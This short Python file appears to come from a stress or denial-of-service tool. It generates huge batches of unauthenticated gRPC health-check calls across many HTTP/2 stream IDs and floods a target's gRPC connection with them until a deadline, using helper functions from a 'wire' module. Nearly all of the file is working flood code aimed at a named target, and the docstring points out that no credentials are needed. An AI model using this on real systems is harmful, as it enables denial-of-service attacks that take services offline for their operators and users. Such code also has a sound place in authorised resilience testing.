"""A thousand calls of health at a time, which anyone can make."""

from wire import PREFACE, call, flood_connection, settings


def chunks():
    for first in range(1, 1 << 30, 2_000):
        yield b"".join(call(stream, "Check", b"", "/grpc.health.v1.Health/") for stream in range(first, first + 2_000, 2))


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
